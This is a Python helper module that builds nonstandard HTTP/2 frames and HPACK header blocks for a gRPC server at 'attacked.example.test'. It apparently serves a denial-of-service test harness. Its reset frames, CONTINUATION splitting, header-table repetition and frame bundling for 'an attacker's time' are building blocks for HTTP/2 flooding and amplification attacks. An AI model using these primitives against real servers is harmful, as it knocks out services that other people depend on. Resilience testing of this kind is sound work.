"""HTTP/2 frames that normal clients do not send.

Frames are those of RFC 9113; header blocks those of RFC 7541, without Huffman coding.
"""

import struct
from collections.abc import Iterable, Iterator, Sequence

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"

DATA, HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = 0, 1, 3, 4, 6, 7, 8, 9
END_STREAM, ACK, END_HEADERS = 0x1, 0x1, 0x4

#: The length of a frame's header.
FRAME_HEADER = 9

#: The largest frame that every server must accept (RFC 9113, section 6.5.2).
MAX_FRAME = 16_384

#: A parameter of SETTINGS: the window that the peer may fill on each stream.
INITIAL_WINDOW_SIZE = 0x4

CANCEL = 0x8

#: Indexes in the static table (RFC 7541, appendix A).
_POST, _HTTP = 0x83, 0x86
_PATH, _AUTHORITY, _CONTENT_TYPE = 4, 1, 31


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload


def settings(*parameters: tuple[int, int]) -> bytes:
    return frame(SETTINGS, 0, 0, b"".join(struct.pack(">HI", *parameter) for parameter in parameters))


def settings_ack() -> bytes:
    return frame(SETTINGS, ACK, 0)


def reset(stream: int) -> bytes:
    return frame(RST_STREAM, 0, stream, struct.pack(">I", CANCEL))


def message(serialized: bytes) -> bytes:
    """A message with the prefix of the gRPC wire format."""
    return struct.pack(">BI", 0, len(serialized)) + serialized


def data_frames(stream: int, payload: bytes, *, end: bool = True) -> bytes:
    """DATA frames with a payload of any length."""
    parts = [payload[start : start + MAX_FRAME] for start in range(0, len(payload), MAX_FRAME)] or [b""]
    flags = [0] * (len(parts) - 1) + [END_STREAM if end else 0]
    return b"".join(frame(DATA, flag, stream, part) for flag, part in zip(flags, parts, strict=True))


def header_frames(stream: int, block: bytes, *, end_headers: bool = True) -> Iterator[bytes]:
    """HEADERS, and CONTINUATION frames as far as the block needs them."""
    parts = [block[start : start + MAX_FRAME] for start in range(0, len(block), MAX_FRAME)]
    for number, part in enumerate(parts):
        flags = END_HEADERS if end_headers and number == len(parts) - 1 else 0
        yield frame(CONTINUATION if number else HEADERS, flags, stream, part)


def request_block(path: str, metadata: Iterable[tuple[str, str]] = ()) -> bytes:
    """The header block of a gRPC request, which leaves the server's table as it is."""
    return b"".join(
        (
            bytes([_POST, _HTTP]),
            _with_name_of(_PATH, path),
            _with_name_of(_AUTHORITY, "attacked.example.test"),
            _with_name_of(_CONTENT_TYPE, "application/grpc"),
            literal("te", "trailers"),
            *(literal(name, value) for name, value in metadata),
        )
    )


def literal(name: str, value: str) -> bytes:
    """A field without indexing, with a new name."""
    return b"\x00" + _string(name) + _string(value)


def remembered(name: str, value: str) -> bytes:
    """A field that is added to the server's table, with a new name: then one octet repeats it."""
    return b"\x40" + _string(name) + _string(value)


#: The field that entered the table last (RFC 7541, section 2.3.3).
NEWEST = b"\xbe"


#: `accept-encoding: gzip, deflate`, of the static table (RFC 7541, appendix A).
ACCEPT_ENCODING = b"\x90"


def _with_name_of(index: int, value: str) -> bytes:
    return _integer(index, prefix=4) + _string(value)


def _string(text: str) -> bytes:
    octets = text.encode()
    return _integer(len(octets), prefix=7) + octets


def _integer(value: int, *, prefix: int) -> bytes:
    """An integer whose first octet has `prefix` bits of it (RFC 7541, section 5.1)."""
    most = (1 << prefix) - 1
    if value < most:
        return bytes([value])
    rest, encoded = value - most, bytes([most])
    while rest >= 0x80:
        encoded += bytes([rest & 0x7F | 0x80])
        rest >>= 7
    return encoded + bytes([rest])


class FrameReader:
    """Parses the frames in a peer's data, in chunks of any size."""

    def __init__(self) -> None:
        self._buffer = bytearray()

    def feed(self, octets: bytes) -> Iterator[tuple[int, int, int, bytes]]:
        """Returns the complete frames so far, as type, flags, stream and payload."""
        self._buffer += octets
        at = 0
        while len(self._buffer) - at >= FRAME_HEADER:
            length = int.from_bytes(self._buffer[at : at + 3])
            end = at + FRAME_HEADER + length
            if end > len(self._buffer):
                break
            kind, flags, stream = struct.unpack_from(">BBI", self._buffer, at + 3)
            yield kind, flags, stream, bytes(self._buffer[at + FRAME_HEADER : end])
            at = end
        del self._buffer[:at]


def chunks(frames: Sequence[bytes], size: int) -> Iterator[bytes]:
    """Bundles frames, since a system call for each would take most of an attacker's time."""
    for start in range(0, len(frames), size):
        yield b"".join(frames[start : start + size])
